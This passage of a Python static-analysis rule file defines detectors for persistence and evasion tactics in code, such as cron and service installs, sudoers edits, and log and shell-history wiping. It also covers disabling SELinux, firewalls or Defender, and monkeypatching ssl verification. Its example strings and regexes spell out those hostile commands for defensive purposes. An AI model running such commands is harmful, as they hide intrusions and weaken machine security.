        "Clearing the shell history (`history -c`, `unset HISTFILE`, `HISTSIZE=0`, "
        "emptying or deleting `~/.bash_history`, linking it to `/dev/null`) is done to hide "
        "the commands an intruder typed. A program that needs a clean environment for a "
        "child process sets its own variables; it never needs to erase the user's history."
    ),
    example="subprocess.run('unset HISTFILE; history -c; rm -f ~/.bash_history', shell=True)",
    fixed_example="subprocess.run(['./deploy.sh'], check=True)",
)
SECURITY_TOOLS = RuleMeta(
    code="GH414",
    name="security-control-disabled",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(693,),
    message="{action} `{what}`: this switches off a security control of the machine",
    why=(
        "Turning off SELinux (`setenforce 0`), the firewall (`ufw disable`, `netsh "
        "advfirewall ... state off`), auditing (`auditctl -e 0`, stopping auditd), Windows "
        "Defender (`Set-MpPreference -Disable...`, exclusions) or macOS Gatekeeper weakens "
        "the whole machine, not just the program. Malware does it before its real work; "
        "generated code does it to make an error go away. Either way it should never happen "
        "silently."
    ),
    example="subprocess.run(['setenforce', '0'])\nsubprocess.run('ufw disable', shell=True)",
    fixed_example="# fix the SELinux label / firewall rule the program actually needs",
)

_I = re.IGNORECASE
TARGETS: tuple[Target, ...] = (
    Target(
        CRON_JOB,
        re.compile(
            r"^/etc/(?:crontab|anacrontab|cron\.(?:d|hourly|daily|weekly|monthly))(?:/|$)"
            r"|^/var/spool/cron(?:/|$)|^/usr/lib/cron/tabs(?:/|$)|^/etc/periodic/"
        ),
        _WRITES,
        re.compile(
            r"\|[ \t]*(?:sudo[ \t]+)?crontab\b"
            r"|\bcrontab(?:[ \t]+-u[ \t]+\S+)?[ \t]+(?!-[lr]\b)\S"
            r"|\bschtasks(?:\.exe)?[ \t]+/create\b|\bRegister-ScheduledTask\b",
            _I,
        ),
        command_action="installs",
    ),
    Target(
        SHELL_STARTUP,
        re.compile(
            r"/\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv"
            r"|zlogin|cshrc|tcshrc|kshrc|mkshrc)$|^~/\.config/fish/config\.fish$"
            r"|^/etc/(?:profile|bash\.bashrc|bashrc|zshrc|zsh/\w+|environment)$"
            r"|^/etc/profile\.d/|(?:Windows)?PowerShell/(?:\w+\.)?(?:PowerShell_)?profile\.ps1$",
        ),
        _WRITES,
    ),
    Target(
        SERVICE_UNIT,
        re.compile(
            r"^(?:/etc|/lib|/usr/lib|/usr/local/lib|/run)/systemd/(?:system|user)(?:/|$)"
            r"|^~/\.config/systemd/user(?:/|$)|^/etc/init\.d/|^/etc/rc\.local$"
            r"|^/etc/rc[0-6S]?\.d/|^/etc/init/[^/]+\.conf$"
        ),
        _WRITES,
    ),
    Target(
        AUTOSTART,
        re.compile(
            r"^~/\.config/autostart(?:/|$)|^/etc/xdg/autostart(?:/|$)|^~/\.kde4?/Autostart/"
            r"|/Start Menu/Programs/Startup(?:/|$)|/Library/Launch(?:Agents|Daemons)(?:/|$)"
            r"|^~/\.config/lxsession/[^/]+/autostart$",
            _I,
        ),
        _WRITES,
    ),
    Target(
        PYTHON_STARTUP,
        re.compile(
            r"(?:site|dist)-packages/[^/]+\.pth$"
            r"|(?:site|dist)-packages/(?:sitecustomize|usercustomize)\.py$"
        ),
        _WRITES,
    ),
    Target(
        AUTHORIZED_KEYS,
        re.compile(r"(?:^|/)authorized_keys2?$"),
        _WRITES,
    ),
    Target(
        SUDOERS,
        re.compile(r"^/etc/(?:sudoers(?:\.d/.*)?|passwd|shadow|group|gshadow)$"),
        _WRITES,
        re.compile(
            r"\buseradd\b[^\n;&|]*?(?:[ \t]-o\b|[ \t]-u[ \t]*0\b"
            r"|[ \t]-G[ \t]*\S*\b(?:sudo|wheel|admin|root)\b)"
            r"|\busermod\b[^\n;&|]*?[ \t]-a?G[ \t]*\S*\b(?:sudo|wheel|admin|root)\b"
            r"|\badduser[ \t]+\S+[ \t]+(?:sudo|wheel|admin)\b"
            r"|\bgpasswd[ \t]+-a[ \t]+\S+[ \t]+(?:sudo|wheel|admin)\b"
            r"|\bnet(?:\.exe)?[ \t]+(?:localgroup[ \t]+administrators|user)\b[^\n;&|]*?/add\b"
            r"|\bdscl\b[^\n;&|]*?-append[ \t]+/Groups/admin\b",
            _I,
        ),
    ),
    Target(
        HOSTS_FILE,
        re.compile(r"^/etc/(?:hosts|resolv\.conf)$|/System32/drivers/etc/hosts$", _I),
        _WRITES,
    ),
    Target(
        PRELOAD,
        re.compile(r"^/etc/ld\.so\.preload$|^/etc/ld\.so\.conf(?:\.d/[^/]+)?$"),
        _WRITES,
    ),
    Target(
        LOG_TAMPERING,
        re.compile(
            r"^/var/log/(?:auth\.log|secure|syslog|messages|wtmp|btmp|lastlog|utmp|faillog"
            r"|kern\.log|daemon\.log|audit/audit\.log|journal(?:/.*)?)(?:\.\d+|\.gz)?$"
            r"|^/(?:var/)?run/utmp$|/winevt/Logs/[^/]+\.evtx$",
            _I,
        ),
        _DESTROYS,
        re.compile(
            r"\bwevtutil(?:\.exe)?[ \t]+(?:cl|clear-log)\b|\b(?:Clear|Remove)-EventLog\b"
            r"|\bjournalctl\b[^\n;&|]*?--vacuum-(?:time=\d+s|size=\d+[KB]?)\b"
            r"|\bfind[ \t]+/var/log\b[^\n;&|]*?-(?:delete|exec[ \t]+(?:rm|shred|truncate))\b"
            r"|\bauditctl[ \t]+-D\b",
            _I,
        ),
        delete_paths=re.compile(
            r"^/var/log(?:/(?:\*(?:\.log)?|\x00|audit|journal))?$|/winevt/Logs(?:/\*|/\x00)?$", _I
        ),
        command_action="clears",
    ),
    Target(
        HISTORY_TAMPERING,
        re.compile(
            r"(?:^|/)\.(?:bash|zsh|sh|ksh|python|mysql|psql|sqlite|node_repl|rediscli)_history$"
            r"|(?:^|/)\.local/share/fish/fish_history$|/ConsoleHost_history\.txt$",
            _I,
        ),
        _DESTROYS,
        re.compile(
            r"\bhistory[ \t]+-[cd]\b|\bunset[ \t]+HISTFILE\b|\bHISTFILE=/dev/null\b"
            r"|\bHIST(?:FILE)?SIZE=0\b|\bset[ \t]+\+o[ \t]+history\b|\bClear-History\b",
        ),
        command_action="clears",
    ),
    Target(
        SECURITY_TOOLS,
        None,
        frozenset(),
        re.compile(
            r"\bsetenforce[ \t]+(?:0|permissive)\b|\bufw[ \t]+(?:--force[ \t]+)?disable\b"
            r"|\bsystemctl[ \t]+(?:stop|disable|mask)[ \t]+(?:--now[ \t]+)?(?:auditd|apparmor"
            r"|firewalld|ufw|fail2ban|falcon-sensor|osqueryd|wazuh-agent|clamav-daemon"
            r"|clamav-freshclam|sysmon)\b"
            r"|\bservice[ \t]+(?:auditd|apparmor|firewalld|ufw|fail2ban)[ \t]+stop\b"
            r"|\bSet-MpPreference\b[^\n;&|]*?-Disable\w+"
            r"|\bAdd-MpPreference\b[^\n;&|]*?-Exclusion\w+"
            r"|\bnetsh(?:\.exe)?[ \t]+(?:advfirewall[ \t]+set[ \t]+\w+[ \t]+state[ \t]+off"
            r"|firewall[ \t]+set[ \t]+opmode[ \t]+(?:mode=)?disable)"
            r"|\bauditctl[ \t]+-e[ \t]*0\b|\bspctl[ \t]+--master-disable\b"
            r"|\bcsrutil[ \t]+disable\b|\bsc(?:\.exe)?[ \t]+(?:stop|delete)[ \t]+WinDefend\b",
            _I,
        ),
    ),
)


# --------------------------------------------------------------------------------------------
# Rules that need more than a path table


_RUN_KEY = re.compile(
    r"\\CurrentVersion\\(?:Run|RunOnce|RunServices|RunServicesOnce|RunOnceEx"
    r"|Policies\\Explorer\\Run|Winlogon)\\?$|\\Image File Execution Options\\"
    r"|\\Windows NT\\CurrentVersion\\Windows\\?$|\\Environment\\?$",
    re.IGNORECASE,
)
_RUN_KEY_COMMAND = re.compile(
    r"\b(?:reg(?:\.exe)?[ \t]+add|New-ItemProperty|Set-ItemProperty)\b[^\n;&|]*?"
    r"\\CurrentVersion\\(?:Run|RunOnce|Winlogon)\b",
    re.IGNORECASE,
)
#: a cheap pre-filter: a module that never names these keys sets no autostart value
_REGISTRY_HINT = re.compile(rb"CurrentVersion|Image File|Environment")
_WINREG_OPEN = frozenset({"OpenKey", "OpenKeyEx"})
_WINREG_CREATE = frozenset({"CreateKey", "CreateKeyEx", "SetValue"})
_WINREG_NAMES = frozenset(
    f"{module}.{name}" for module in ("winreg", "_winreg") for name in _WINREG_OPEN | _WINREG_CREATE
)


def _registry_run(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if not module_mentions(ctx, _REGISTRY_HINT):
        return
    name = site.name or ""
    short = name.rsplit(".", 1)[-1]
    if short in _WINREG_OPEN | _WINREG_CREATE:
        if "." not in name and not {"winreg", "_winreg"} & set(ctx.imports.star_modules):
            return
        sub_key = template(ctx, site.arg(1, "sub_key"))
        if sub_key is None or not _RUN_KEY.search(sub_key.replace("/", "\\")):
            return
        if short in _WINREG_OPEN:
            access = site.arg(3, "access")
            access_text = "" if access is None else ctx.text(access)
            scope_text = ctx.source[
                ctx.scope_of(site.node).start_byte : ctx.scope_of(site.node).end_byte
            ]
            if (
                not re.search(r"WRITE|SET_VALUE|ALL_ACCESS", access_text)
                and b"SetValue" not in scope_text
            ):
                return
        shown = "\\".join(sub_key.rstrip("\\").split("\\")[-3:])
        yield Hit.at(site.node, action="writes", what=display(shown))
        return
    command = command_text(ctx, site)
    if command is not None:
        match = _RUN_KEY_COMMAND.search(command)
        if match is not None:
            yield Hit.at(site.node, action="runs a command that writes", what="CurrentVersion\\Run")


_CRONTAB_CLASSES = frozenset({"crontab.CronTab", "CronTab"})


def _cron_check(
    base: Callable[[Context, CallSite], Iterable[Hit]],
) -> Callable[[Context, CallSite], Iterator[Hit]]:
    """python-crontab: a `CronTab(...)` whose jobs are created with `.new(...)` and written."""

    def check(ctx: Context, site: CallSite) -> Iterator[Hit]:
        if site.name not in _CRONTAB_CLASSES:
            yield from base(ctx, site)
            return
        scope = ctx.scope_of(site.node)
        text = ctx.source[scope.start_byte : scope.end_byte]
        if b".new(" in text and b".write(" in text:
            yield Hit.at(site.node, action="adds", what="python-crontab job")

    return check


_HISTORY_ENV = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE", "SAVEHIST"})


def _history_check(
    base: Callable[[Context, CallSite], Iterable[Hit]],
) -> Callable[[Context, CallSite], Iterator[Hit]]:
    """Also `os.unsetenv("HISTFILE")`, `os.environ.pop("HISTFILE")`, `os.putenv(...)`."""

    def check(ctx: Context, site: CallSite) -> Iterator[Hit]:
        if site.name in {"os.unsetenv", "os.putenv", "os.environ.pop", "os.environ.__delitem__"}:
            key_node = site.arg(0, "key")
            key = ctx.const(key_node) if key_node is not None else None
            if isinstance(key, str) and key.upper() in _HISTORY_ENV:
                value = site.arg(1, "value")
                if site.name == "os.putenv" and value is not None and key.upper() == "HISTFILE":
                    target = ctx.const(value)
                    if target not in {"/dev/null", ""}:
                        return
                yield Hit.at(site.node, action="changes", what=key)
            return
        yield from base(ctx, site)

    return check


_HISTORY_VARIABLE = re.compile(rb"HIST(?:FILE|SIZE|FILESIZE)\b|SAVEHIST\b")


def _history_variable(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    """`os.environ["HISTFILE"] = "/dev/null"`, `del os.environ["HISTFILE"]`."""
    key = ctx.node_at(m.start, m.end)
    while key.type in {"string_content", "string_start", "string_end"} and key.parent is not None:
        key = key.parent
    subscript = key.parent
    if key.type != "string" or subscript is None or subscript.type != "subscript":
        return
    environ = subscript.child_by_field_name("value")
    if environ is None or ctx.qualname(environ) != "os.environ":
        return
    statement = subscript.parent
    name = m.match.group(0).decode()
    if statement is not None and statement.type == "delete_statement":
        yield Hit.at(statement, action="deletes", what=name)
        return
    if statement is None or statement.type != "assignment":
        return
    value = statement.child_by_field_name("right")
    if statement.child_by_field_name("left") != subscript or value is None:
        return
    if ctx.const(value) in {"/dev/null", "", "0"} or ctx.text(value) in {"os.devnull", "0"}:
        yield Hit.at(statement, action="changes", what=name)


# --------------------------------------------------------------------------------------------
# Replacing security functions at run time

SECURITY_MONKEYPATCH = RuleMeta(
    code="GH410",
    name="security-function-replaced",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(693, 295),
    message="replaces `{target}` at run time: every caller in the process gets the substitute",
    why=(
        "Assigning to an attribute of an imported security module "
        "(`ssl._create_default_https_context = ssl._create_unverified_context`, "
        "`hmac.compare_digest = ...`, `jwt.decode = ...`, `certifi.where = ...`) silently "
        "changes the behaviour of every library in the process that relies on it: "
        "certificate checks stop, signature or password comparisons always succeed. The "
        "change is invisible at the call sites a reviewer reads. Configure the one client "
        "that needs different behaviour instead of patching the module for everyone."
    ),
    example="import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
    fixed_example=(
        "context = ssl.create_default_context(cafile=CORPORATE_CA)\n"
        "urllib.request.urlopen(url, context=context)"
    ),
)

#: modules (and packages) whose attributes decide authentication, integrity or trust
SECURITY_MODULES = (
    "ssl",
    "hmac",
    "hashlib",
    "secrets",
    "jwt",
    "jose",
    "bcrypt",
    "crypt",
    "passlib",
    "werkzeug.security",
    "django.contrib.auth",
    "django.utils.crypto",
    "flask_login",
    "flask_jwt_extended",
    "itsdangerous",
    "cryptography",
    "Crypto",
    "Cryptodome",
    "nacl",
    "rsa",
    "OpenSSL",
    "certifi",
    "authlib",
    "oauthlib",
    "pyotp",
    "getpass",
    "paramiko.client",
    "urllib3.util.ssl_",
    "requests.adapters",
    "requests.sessions",
    "ecdsa",
    "argon2",
)
_SECURITY_MODULE = re.compile(
    r"^(?:" + "|".join(re.escape(m) for m in SECURITY_MODULES) + r")\.[A-Za-z_]"
)
#: security functions by attribute name, one pattern per name: each starts with a literal
#: (`.compare_digest`) that the engine's pre-filter finds at memory speed, so files without it
#: cost nothing; the check resolves the owner through the imports
PATCHED_FUNCTIONS = words(
    "_create_default_https_context match_hostname compare_digest checkpw check_password "
    "verify_password authenticate login_required"
)
_PATCH_PATTERNS = tuple(
    re.compile(rb"\." + name.encode() + rb"(?:_hash)?[ \t]*=(?!=)")
    for name in sorted(PATCHED_FUNCTIONS)
)


def _security_monkeypatch(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    attribute = ctx.node_at(m.start + 1).parent
    assignment = attribute.parent if attribute is not None else None
    if (
        attribute is None
        or attribute.type != "attribute"
        or assignment is None
        or assignment.type != "assignment"
        or assignment.child_by_field_name("left") != attribute
    ):
        return
    root = attribute
    while root.type == "attribute":
        inner = root.child_by_field_name("object")
        if inner is None:
            return
        root = inner
    if root.type != "identifier" or ctx.text(root) not in ctx.imports.bindings:
        return  # self.verify = ..., not a module's function
    target = ctx.qualname(attribute)
    if target is None or not _SECURITY_MODULE.match(target) or in_test_code(ctx, assignment):
        return
    if _is_polyfill(ctx, assignment, target):
        return
    yield Hit.at(assignment, target=target)


def _is_polyfill(ctx: Context, node: tree_sitter.Node, target: str) -> bool:
    """`if not hasattr(ssl, "X"): ssl.X = ...` and `except AttributeError:` backfill old APIs."""
    attr = target.rsplit(".", 1)[-1]
    current = node.parent
    for _ in range(6):
        if current is None:
            return False
        if current.type == "if_statement":
            condition = current.child_by_field_name("condition")
            if (
                condition is not None
                and attr in ctx.text(condition)
                and "hasattr" in ctx.text(condition)
            ):
                return True
        if (
            current.type == "except_clause"
            and "AttributeError" in ctx.text(current).split(":", 1)[0]
        ):
            return True
        if current.type in {"function_definition", "module"}:
            return False
        current = current.parent
    return False


# --------------------------------------------------------------------------------------------
# Logging switched off

LOGGING_DISABLED = RuleMeta(
    code="GH413",
    name="logging-disabled",
    category=Category.PERSISTENCE,
    severity=Severity.INFO,
    confidence=Confidence.MEDIUM,
    cwe=(778,),
    message="`logging.disable({level})` switches off every log message in the process",
    why=(
        "`logging.disable(logging.CRITICAL)` (or a call without arguments) silences every "
        "logger of every library in the process, including security and audit events. "
        "Code that is about to do something it does not want recorded does exactly this; "
        "code that merely finds the output noisy should raise the level of the one logger "
        "that is too chatty. Test suites are exempt."
    ),
    example="logging.disable(logging.CRITICAL)\nsync_credentials()",
    fixed_example="logging.getLogger('urllib3').setLevel(logging.WARNING)",
)


def _logging_disabled(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if in_test_code(ctx, site.node):
        return
    level = site.arg(0, "level")
    if level is None:
        yield Hit.at(site.node, level="")
        return
    text = ctx.text(level)
    name = ctx.qualname(level) or ""
    if name in {"logging.CRITICAL", "logging.FATAL", "sys.maxsize"} or (
        level.type == "integer" and text.isdigit() and int(text) >= 50
    ):
        yield Hit.at(site.node, level=text)


def _rules() -> list[Rule]:
    rules: list[Rule] = []
    for target in TARGETS:
        rule = _target_rule(target)
        if target.meta is CRON_JOB:
            rule = CallRule(
                rule.meta, _cron_check(rule.check), rule.names | _CRONTAB_CLASSES, rule.methods
            )
        elif target.meta is HISTORY_TAMPERING:
            rule = CallRule(
                rule.meta,
                _history_check(rule.check),
                rule.names
                | {"os.unsetenv", "os.putenv", "os.environ.pop", "os.environ.__delitem__"},
                rule.methods,
            )
        rules.append(rule)
    rules.append(TextRule(HISTORY_TAMPERING, _HISTORY_VARIABLE, _history_variable))
    rules.append(
        CallRule(
            REGISTRY_RUN,
            _registry_run,
            names=_WINREG_NAMES | _WINREG_OPEN | _WINREG_CREATE | COMMAND_CALLS | EXEC_CALLS,
            methods=frozenset({"exec_command"}),
        )
    )
    rules.extend(
        TextRule(SECURITY_MONKEYPATCH, pattern, _security_monkeypatch)
        for pattern in _PATCH_PATTERNS
    )
    rules.append(
        CallRule(LOGGING_DISABLED, _logging_disabled, names=frozenset({"logging.disable"}))
    )
    return rules


RULES = _rules()

mentions_warmer(_REGISTRY_HINT)
